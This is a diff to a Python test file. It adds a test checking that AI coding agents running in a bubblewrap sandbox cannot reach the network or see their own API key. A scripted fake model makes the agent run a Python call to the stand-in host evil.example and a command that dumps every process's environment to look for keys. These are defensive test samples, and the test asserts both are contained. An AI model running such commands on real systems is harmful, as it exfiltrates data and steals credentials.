@@ -2,11 +2,28 @@
 
 from __future__ import annotations
 
+import sys
 from pathlib import Path
 
+import pytest
+
+from tests.agents.conftest import installed
+from tests.agents.model.script import SUMMARY, Ask, Reply, Run, Say
+from tests.agents.model.server import serve
 from tests.sandbox.available import bubblewrap
 from tests.stories.plays import playbook, task
 from tests.stories.stage import QUICK, stage
+from tests.stories.test_real_agents import JOB, KEY, offers, programs, roles, transcripts
+
+__all__ = ["installed", "programs"]
+
+CALLS = f"{sys.executable} -c 'import urllib.request as web; web.urlopen(\"http://evil.example\")' 2>&1 | tail -1"
+LOOKS = "cat /proc/*/environ | tr '\\0' '\\n'"
+
+
+def curious_job(ask: Ask) -> Reply:
+    """It does its job, calls somebody, and looks for keys wherever there is an environment."""
+    return Say(SUMMARY.format(text="Looked around.")) if ask.results else Run(f"{JOB}\n{CALLS}\n{LOOKS}")
 
 
 async def test_the_main_job_in_bubblewrap(tmp_path: Path) -> None:
@@ -16,3 +33,33 @@ async def test_the_main_job_in_bubblewrap(tmp_path: Path) -> None:
         objective = story.hand_off()
         await story.closed(objective)
         assert await story.file("two.txt") == f"by {objective.number}.two.worker.1\n"
+
+
+@pytest.mark.usefixtures("programs")
+@pytest.mark.parametrize(("worker", "others"), [("claude", "codex"), ("codex", "claude")])
+async def test_real_agents_do_the_main_job_without_a_network_and_without_their_key(
+    tmp_path: Path, worker: str, others: str
+) -> None:
+    bubblewrap()
+    async with (
+        serve(curious_job) as model,
+        stage(
+            tmp_path,
+            {},
+            config=roles(worker, others),
+            agents=offers(model.url),
+            sandbox="bubblewrap",
+            network="model-only",
+        ) as story,
+    ):
+        objective = story.hand_off()
+        await story.closed(objective)
+        assert [pull.merged for pull in story.pull_requests()] == [True, True]
+        assert {ask.key for ask in model.asked} == {KEY}, "the proxy put the key in its place"
+        seen = "".join(result for ask in model.asked for result in ask.results)
+        assert "CREWLINE_SESSION=" in seen
+        assert "HTTP Error 403" in seen
+        assert KEY not in seen
+        told = transcripts(story)
+        assert KEY not in told
+        assert "the agent may not reach evil.example:80" in told
